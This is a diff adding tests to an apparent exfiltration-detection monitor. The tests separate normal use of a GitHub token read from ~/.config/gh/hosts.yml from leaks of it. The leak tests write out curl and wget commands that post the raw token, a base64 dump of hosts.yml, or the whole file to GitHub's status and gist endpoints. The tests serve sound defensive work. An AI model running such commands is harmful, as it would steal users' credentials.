@@ -334,6 +334,89 @@ def test_gh_gist_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
     assert_alert_here(monitor, home, "T1567.001")
 
 
+# --- a CI status post with the token from hosts.yml (use versus leak by content) ------------------
+# The token is read by awk, handed to the client in a variable and sent in an Authorization
+# header: use. The twins send the token or the file itself in the body: a leak, told by the
+# content-match signal (fingerprints of hosts.yml found in the plaintext, seen through the
+# uprobes on libssl's SSL_write/SSL_write_ex and gnutls's gnutls_record_send).
+
+TOKEN = "TOKEN=$(awk '/oauth_token/{print $2}' $HOME/.config/gh/hosts.yml); "
+STATUS_URL = "https://api.github.com/repos/our-org/app/statuses/0123abcd"
+CURL = "curl -sS -f --cacert $SSL_CERT_FILE -o /dev/null "
+STATUS_BODY = '{"state":"success","context":"ci","description":"build passed"}'
+
+
+def signal_names(alert):
+    return [s.get("name") for s in as_list(get(alert, "exfilwatch.signals", []))]
+
+
+def content_scans(monitor):
+    return [r for r in monitor.records() if get(r, "event.action") == "content-scan"]
+
+
+def assert_content_match(found, encoding):
+    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert evidence, f"no content-match signal: {[signal_names(a) for a in found]}"
+    assert any(e.startswith("content of ~/.config/gh/hosts.yml") and f"({encoding} " in e for e in evidence), evidence
+
+
+def test_curl_posting_a_ci_status_with_the_token_in_a_header_is_silent(monitor, home, storage, tmp_path):
+    run(TOKEN + CURL + f"""-H "Authorization: token $TOKEN" -H 'Content-Type: application/json' """
+        f"""-d '{STATUS_BODY}' {STATUS_URL}""", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    wait_for_flow(monitor, storage, "api.github.com")
+    assert_silent_here(monitor, home)
+    # The plaintext was seen (the token in Authorization), and nothing of it was written out.
+    scans = [s for s in content_scans(monitor) if get(s, "exfilwatch.content.source") == "openssl"]
+    assert any("authorization" in as_list(get(s, "exfilwatch.content.auth_headers", [])) for s in scans), scans
+
+
+PYTHON_URLLIB = """import json, os, urllib.request
+request = urllib.request.Request("%s", data=json.dumps({"state": "success", "context": "ci"}).encode(),
+                                 headers={"Authorization": "token " + os.environ["TOKEN"],
+                                          "Content-Type": "application/json"}, method="POST")
+urllib.request.urlopen(request, timeout=20).read()
+""" % STATUS_URL
+
+PYTHON_REQUESTS = """import os, requests
+reply = requests.post("%s", json={"state": "success", "context": "ci"}, timeout=20,
+                      headers={"Authorization": "token " + os.environ["TOKEN"]}, verify=os.environ["SSL_CERT_FILE"])
+reply.raise_for_status()
+""" % STATUS_URL
+
+
+@pytest.mark.parametrize("client", ["urllib", "requests"])
+def test_python_posting_a_ci_status_with_the_token_in_a_header_is_silent(client, monitor, home, storage, tmp_path):
+    script = tmp_path / f"status_{client}.py"
+    script.write_text(PYTHON_URLLIB if client == "urllib" else PYTHON_REQUESTS)
+    run(TOKEN + f"export TOKEN; {paths.PYTHON} {script}", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    wait_for_flow(monitor, storage, "api.github.com")
+    assert_silent_here(monitor, home)
+
+
+@pytest.mark.parametrize("body,encoding", [
+    ("\"{\\\"state\\\":\\\"success\\\",\\\"description\\\":\\\"$TOKEN\\\"}\"", "raw"),
+    ("\"$(base64 -w0 $HOME/.config/gh/hosts.yml)\"", "base64"),
+], ids=["token-raw", "hosts-yml-base64"])
+def test_curl_sending_the_token_in_the_body_alerts(body, encoding, monitor, home, storage, tmp_path):
+    run(TOKEN + CURL + f"""-H "Authorization: token $TOKEN" -d {body} {STATUS_URL}""", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    found = assert_alert_here(monitor, home, "T1567.001")
+    assert_content_match(found, encoding)
+
+
+def test_wget_post_file_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
+    # Debian's wget speaks TLS through gnutls (gnutls_record_send).
+    run("wget -q -O /dev/null --ca-certificate=$SSL_CERT_FILE "
+        "--post-file=$HOME/.config/gh/hosts.yml https://api.github.com/gists", home, storage, tmp_path)
+    uploaded(storage, "POST", "/gists")
+    found = assert_alert_here(monitor, home, "T1567.001")
+    assert_content_match(found, "raw")
+    assert any(get(s, "exfilwatch.content.source") == "gnutls" for s in content_scans(monitor))
+
+
 # --- rclone -----------------------------------------------------------------------------------
 
 RCLONE = "rclone --ca-cert $SSL_CERT_FILE "
